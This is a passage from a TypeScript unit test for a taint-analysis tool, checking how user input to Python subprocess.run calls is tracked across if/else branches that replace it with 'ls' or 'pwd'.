      'def every_branch(flag, cmd):',
      '    command = cmd',
      '    if flag:',
      '        command = "ls"',
      '    else:',
      '        command = "pwd"',
      '    subprocess.run(command, shell=True)',
    ].join('\n'),
    parser,
  );
  const labels = facts.calls.filter((call) => call.callee === 'subprocess.run').map((call) => call.args[0]!.labels);
  // The first branch's input survives the else; without an else the value before the if does; when every branch replaces it, it is gone.
  expect(labels[0]).not.toEqual([]);
  expect(labels[1]).not.toEqual([]);
  expect(labels[2]).toEqual([]);
});
